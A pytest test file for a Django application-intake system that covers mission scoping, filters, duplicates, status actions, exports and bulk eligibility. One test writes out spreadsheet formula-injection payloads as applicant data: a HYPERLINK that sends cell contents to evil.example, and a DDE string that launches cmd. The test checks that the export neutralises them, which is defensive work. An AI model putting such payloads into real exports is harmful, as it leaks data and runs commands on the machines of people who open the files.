"""The missions' intake: scoping of the list, detail and export; the filters; duplicates; the actions of
the detail page (document problems, eligibility, withdrawal, disqualification); the bulk eligibility check."""

from __future__ import annotations

import csv
import io

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from jetpm.applications.intake.selectors import IntakeFilter, applications_for
from jetpm.applications.models import Application, Document, Notice
from jetpm.applications.permissions import can_view_intake
from jetpm.core.models import AuditEvent
from jetpm.core.scoping import scope_of
from tests.applications.intake_support import add_documents, add_letters, make_application

LIST = reverse("applications:intake_list")
EXPORT = reverse("applications:intake_export")


def body(response) -> str:  # type: ignore[no-untyped-def]
    """A CSV export's text: the download is streamed (never one ``content``)."""
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8-sig")


def detail_url(a: Application) -> str:
    return reverse("applications:intake_detail", kwargs={"application_id": a.pk})


def refs(response) -> set[str]:  # type: ignore[no-untyped-def]
    return {a.reference for a in response.context["page"]}


@pytest.fixture
def staff_a(world, client):  # type: ignore[no-untyped-def]
    client.force_login(world.users["mission_a.staff"])
    return client


# --- scoping ----------------------------------------------------------------------------------------------


def test_mission_b_staff_never_sees_mission_a(world, client):
    a = make_application(world, "mission_a", reference="2027-GB-SCOPE1")
    client.force_login(world.users["mission_b.staff"])
    assert client.get(detail_url(a)).status_code == 404
    response = client.get(LIST)
    assert response.status_code == 200
    assert "2027-GB-SCOPE1" not in refs(response)
    assert "2027-IE-TEST0B" in refs(response)
    content = body(client.get(EXPORT, {"format": "csv"}))
    assert "2027-GB-SCOPE1" not in content and "2027-IE-TEST0B" in content
    # the actions answer 404 too, and change nothing
    url = reverse("applications:intake_status", kwargs={"application_id": a.pk})
    assert client.post(url, {"to": "eligible"}).status_code == 404
    a.refresh_from_db()
    assert a.status == "submitted"


def test_panelist_has_no_intake_list(world, client):
    assert not can_view_intake(scope_of(world.users["panelist_a"]))
    client.force_login(world.users["panelist_a"])
    assert client.get(LIST).status_code == 404
    assert client.get(EXPORT, {"format": "csv"}).status_code == 404


def test_applicant_has_no_intake_list(world, client):
    client.force_login(world.users["applicant_a"])
    assert client.get(LIST).status_code == 404


def test_national_staff_see_all_but_drafts(world, client):
    draft = make_application(world, "mission_a", status="draft", reference="2027-GB-DRAFT1")
    client.force_login(world.users["mofa.staff"])
    response = client.get(LIST)
    assert {"2027-GB-TEST0A", "2027-IE-TEST0B"} <= refs(response)
    assert "2027-GB-DRAFT1" not in refs(response)
    assert client.get(detail_url(draft)).status_code == 404
    # national users may filter by mission
    response = client.get(LIST, {"mission": world.orgs["mission_b"].pk})
    assert refs(response) == {"2027-IE-TEST0B"}


def test_mission_staff_has_no_mission_filter(world, staff_a):
    response = staff_a.get(LIST)
    assert "mission" not in response.context["form"].fields
    assert refs(response) == {"2027-GB-TEST0A"}


# --- filters ----------------------------------------------------------------------------------------------


def test_default_year_is_the_newest(world, staff_a):
    make_application(world, intake_year=2028, reference="2028-GB-NEW")
    response = staff_a.get(LIST)
    assert refs(response) == {"2028-GB-NEW"}
    assert refs(staff_a.get(LIST, {"year": 2027})) == {"2027-GB-TEST0A"}


def test_filter_status_multi(world, staff_a):
    make_application(world, status="eligible", reference="R-ELIG")
    make_application(world, status="ineligible", status_reason="x", reference="R-INEL")
    response = staff_a.get(LIST, {"status": ["eligible", "ineligible"]})
    assert refs(response) == {"R-ELIG", "R-INEL"}
    assert refs(staff_a.get(LIST, {"status": "submitted"})) == {"2027-GB-TEST0A"}


def test_filter_job_type(world, staff_a):
    make_application(world, job_type="CIR", reference="R-CIR")
    assert refs(staff_a.get(LIST, {"job_type": "CIR"})) == {"R-CIR"}


def test_filter_completeness(world, staff_a):
    full = make_application(world, reference="R-FULL")
    add_documents(full)
    add_letters(full, 2)
    docs_only = make_application(world, reference="R-DOCS")
    add_documents(docs_only)
    add_letters(docs_only, 1)
    assert refs(staff_a.get(LIST, {"completeness": "complete"})) == {"R-FULL"}
    assert refs(staff_a.get(LIST, {"completeness": "letters"})) == {"R-DOCS", "2027-GB-TEST0A"}
    assert refs(staff_a.get(LIST, {"completeness": "documents"})) == {"2027-GB-TEST0A"}
    row = next(a for a in staff_a.get(LIST).context["page"] if a.reference == "R-DOCS")
    assert (row.docs_count, row.letters_count) == (3, 1)


def test_filter_eligibility(world, staff_a):
    make_application(world, eligibility_failures=["degree", "years_in_japan"], reference="R-DEG")
    make_application(world, eligibility_failures=["years_in_japan"], reference="R-JP")
    assert refs(staff_a.get(LIST, {"eligibility": "any"})) == {"R-DEG", "R-JP"}
    assert refs(staff_a.get(LIST, {"eligibility": "degree"})) == {"R-DEG"}
    assert refs(staff_a.get(LIST, {"eligibility": "years_in_japan"})) == {"R-DEG", "R-JP"}
    assert refs(staff_a.get(LIST, {"eligibility": "age_limit"})) == set()


def test_filter_search(world, staff_a):
    make_application(world, passport_family_name="Okonkwo", email="chi@example.net", reference="R-OKO")
    assert refs(staff_a.get(LIST, {"q": "okonk"})) == {"R-OKO"}
    assert refs(staff_a.get(LIST, {"q": "chi@example"})) == {"R-OKO"}
    assert refs(staff_a.get(LIST, {"q": "R-OK"})) == {"R-OKO"}


def test_duplicates(world, staff_a):
    from datetime import date

    make_application(world, passport_family_name="Twin", birth_date=date(1990, 2, 2), reference="R-T1")
    make_application(world, passport_family_name="Twin", birth_date=date(1990, 2, 2), reference="R-T2")
    make_application(world, passport_family_name="Other", birth_date=date(1990, 2, 2), reference="R-OTHER")
    make_application(world, email="same@example.org", reference="R-M1")
    m2 = make_application(world, email="same@example.org", reference="R-M2")
    # a different intake year and a draft are not duplicates
    make_application(world, passport_family_name="Solo", birth_date=date(1991, 3, 3), reference="R-SOLO")
    make_application(
        world, intake_year=2026, passport_family_name="Solo", birth_date=date(1991, 3, 3), reference="R-OLD"
    )
    make_application(world, email="draft@example.org", reference="R-D1")
    make_application(world, email="draft@example.org", status="draft", reference="R-D2")
    flagged = make_application(world, reference="R-FLAG")
    Application.objects.filter(pk=flagged.pk).update(duplicate_of=m2)
    response = staff_a.get(LIST, {"duplicates": "on", "year": 2027})
    assert refs(response) == {"R-T1", "R-T2", "R-M1", "R-M2", "R-FLAG"}
    page = staff_a.get(detail_url(m2))
    assert [d.reference for d in page.context["detail"].duplicates] == ["R-M1"]


# --- detail and actions -----------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["en", "ja"])
def test_detail_renders(world, client, language):
    from tests.planning.guidelines_support import approved

    approved(world, 2027)
    user = world.users["mission_a.staff"]
    user.language = language
    user.save(update_fields=["language"])
    from jetpm.core.models import Country

    ireland = Country.objects.get(code="IE")
    a = make_application(
        world, nationality=ireland, eligibility_failures=["nationality", "age_limit"], reference="R-DET"
    )
    add_documents(a)
    add_letters(a, 1)
    client.force_login(user)
    response = client.get(detail_url(a), HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200
    html = response.content.decode()
    assert "R-DET" in html and 'data-testid="actions"' in html
    nationality, age = response.context["detail"].explanations
    assert "IE" in nationality.message and "GB" in nationality.message  # re-computed with its details
    assert "…" in age.message  # the guideline has no age limit: the details are unknown
    assert client.get(LIST, HTTP_ACCEPT_LANGUAGE=language).status_code == 200


def test_document_problem_notifies_and_clears(world, staff_a, django_capture_on_commit_callbacks):
    a = make_application(world, reference="R-PROB")
    add_documents(a)
    doc = Document.objects.get(application=a, kind="degree")
    url = reverse("applications:intake_document_problem", kwargs={"application_id": a.pk})
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        staff_a.post(url, {"document": doc.pk, "problem": "The scan is unreadable."})
    doc.refresh_from_db()
    assert doc.problem == "The scan is unreadable."
    assert Notice.objects.filter(application=a, kind="document_problem").exists()
    assert len(mail.outbox) == 1 and "unreadable" in mail.outbox[0].body
    assert AuditEvent.objects.filter(action="application.document.problem", object_id=str(doc.pk)).exists()
    assert refs(staff_a.get(LIST, {"q": "R-PROB"})) == {"R-PROB"}
    assert next(iter(staff_a.get(LIST, {"q": "R-PROB"}).context["page"])).doc_problem
    # empty text: refused
    response = staff_a.post(url, {"document": doc.pk, "problem": ""}, follow=True)
    assert any("Problem" in str(m) for m in response.context["messages"])
    clear = reverse("applications:intake_document_clear", kwargs={"application_id": a.pk})
    staff_a.post(clear, {"document": doc.pk})
    doc.refresh_from_db()
    assert doc.problem == ""


def _status(client, a: Application, to: str, reason: str = ""):  # type: ignore[no-untyped-def]
    url = reverse("applications:intake_status", kwargs={"application_id": a.pk})
    return client.post(url, {"to": to, "reason": reason}, follow=True)


@pytest.mark.parametrize("to", ["withdrawn", "disqualified", "ineligible"])
def test_reason_required(world, staff_a, to, django_capture_on_commit_callbacks):
    a = make_application(world)
    response = _status(staff_a, a, to)
    a.refresh_from_db()
    assert a.status == "submitted"
    assert any("reason" in str(m).lower() for m in response.context["messages"])
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        _status(staff_a, a, to, "Told us by phone")
    a.refresh_from_db()
    assert (a.status, a.status_reason) == (to, "Told us by phone")
    assert Notice.objects.filter(application=a, kind=f"status_{to}").exists()
    assert len(mail.outbox) == 1


def test_eligible_after_correction(world, staff_a):
    a = make_application(world, status="ineligible", status_reason="degree")
    _status(staff_a, a, "eligible")
    a.refresh_from_db()
    assert a.status == "eligible"
    history = staff_a.get(detail_url(a)).context["detail"].history
    assert history[-1].changes["status"] == ["ineligible", "eligible"]


def test_illegal_transition_refused(world, staff_a):
    a = make_application(world, status="withdrawn", status_reason="gone")
    response = _status(staff_a, a, "eligible")
    a.refresh_from_db()
    assert a.status == "withdrawn"
    assert any("eligible" in str(m).lower() for m in response.context["messages"])
    b = make_application(world, status="eligible")
    _status(staff_a, b, "eligible")
    b.refresh_from_db()
    assert b.status == "eligible"


def test_upload_by_post(world, staff_a, settings, tmp_path):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.MEDIA_ROOT = str(tmp_path)
    a = make_application(world)
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    url = reverse("applications:intake_upload", kwargs={"application_id": a.pk})
    staff_a.post(url, {"kind": "transcript", "file": SimpleUploadedFile("t.pdf", pdf, "application/pdf")})
    assert Document.objects.filter(application=a, kind="transcript").count() == 1


# --- export -----------------------------------------------------------------------------------------------


def test_export_xlsx_and_csv(world, staff_a):
    make_application(world, reference="R-EXP", email="exp@example.org")
    response = staff_a.get(EXPORT, {"format": "xlsx", "q": "R-EXP"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2 and rows[1][0] == "R-EXP" and "exp@example.org" in rows[1]
    event = AuditEvent.objects.filter(action="application.export").latest("id")
    assert event.changes["rows"] == [None, 1]
    assert event.changes["filters"][1]["q"] == "R-EXP"
    response = staff_a.get(EXPORT, {"format": "csv"})
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 3  # header, TEST0A, R-EXP
    assert AuditEvent.objects.filter(action="application.export").count() == 2


# --- bulk eligibility -------------------------------------------------------------------------------------


def test_bulk_eligibility(world, staff_a):
    ok = [make_application(world) for _ in range(3)]
    bad = make_application(world, eligibility_failures=["degree", "nationality"])
    done = make_application(world, status="eligible")
    other = make_application(world, "mission_b")
    url = reverse("applications:intake_bulk_eligibility")
    response = staff_a.post(url, {"mission": world.orgs["mission_a"].pk, "year": 2027}, follow=True)
    assert any("4 eligible, 1 ineligible" in str(m) for m in response.context["messages"])
    statuses = dict(Application.objects.values_list("pk", "status"))
    assert all(statuses[a.pk] == "eligible" for a in ok)
    assert statuses[bad.pk] == "ineligible" and statuses[done.pk] == "eligible"
    assert statuses[other.pk] == "submitted"
    bad.refresh_from_db()
    assert "degree" in bad.status_reason
    assert AuditEvent.objects.filter(action="application.status", changes__bulk=True).count() == 5
    # mission_b is not theirs
    response = staff_a.post(url, {"mission": world.orgs["mission_b"].pk, "year": 2027}, follow=True)
    assert Application.objects.get(pk=other.pk).status == "submitted"


def test_selector_scoped(world):
    qs = applications_for(world.users["mission_b.staff"], IntakeFilter(intake_year=2027))
    assert [a.reference for a in qs] == ["2027-IE-TEST0B"]


def test_export_neutralises_formulas_typed_by_applicants(world, staff_a):
    """Text an applicant typed is never a live formula in the XLSX nor a formula in the CSV; numbers stay
    numbers."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    make_application(
        world,
        reference="R-EVIL",
        passport_family_name=evil,
        passport_given_names="@SUM(1+1)",
        address="-2+3+cmd|' /C calc'!A0",
        statement="\t=1+1",
    )
    response = staff_a.get(EXPORT, {"format": "xlsx", "q": "R-EVIL"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    family = next(c for c in cells if c.value == evil)
    assert family.data_type == "s" and family.quotePrefix
    response = staff_a.get(EXPORT, {"format": "csv", "q": "R-EVIL"})
    rows = list(csv.reader(io.StringIO(body(response))))
    values = [v for v in rows[1] if v]
    assert "'" + evil in values and "'@SUM(1+1)" in values
    assert not [v for v in values if v[0] in "=+-@\t\r"]


def test_every_eligibility_rule_has_a_short_name_for_the_filter():
    """A rule added to planning's eligibility checker gets a label in the intake filter, not its code."""
    from jetpm.applications.intake.forms import RULE_LABELS
    from jetpm.planning.eligibility import MESSAGES

    assert set(MESSAGES) <= set(RULE_LABELS)


def test_export_names_the_unmet_rules_in_words(world, staff_a):
    from django.utils import translation

    # the staff user reads English (their language); the cell is the rules' names, never their codes
    make_application(world, reference="R-RULES", eligibility_failures=["former_gap", "years_in_japan"])
    with translation.override("en"):
        response = staff_a.get(EXPORT, {"format": "csv", "q": "R-RULES"})
    rows = list(csv.reader(io.StringIO(body(response))))
    column = rows[0].index("Eligibility rules not met")
    cell = rows[1][column]
    assert "former_gap" not in cell and "years_in_japan" not in cell, cell
    assert "Years lived in Japan" in cell, cell


def test_streamed_export_speaks_the_readers_language_to_the_last_row(world, staff_a):
    """The CSV is produced while it is sent, after the view returned: the rows are still in the reader's
    language (Japanese here), not the language active when the stream is read (English in tests)."""
    user = world.users["mission_a.staff"]
    user.language = "ja"
    user.save(update_fields=["language"])
    make_application(world, reference="R-JA", eligibility_failures=["years_in_japan"])
    response = staff_a.get(EXPORT, {"format": "csv", "q": "R-JA"})
    translation.activate("en")  # whatever the thread's language is when the stream is read
    rows = list(csv.reader(io.StringIO(body(response))))
    assert rows[0][0] == "応募番号", rows[0]
    assert rows[1][0] == "R-JA" and "Years lived in Japan" not in ",".join(rows[1])
    assert "提出済み" in rows[1], rows[1]  # the status label
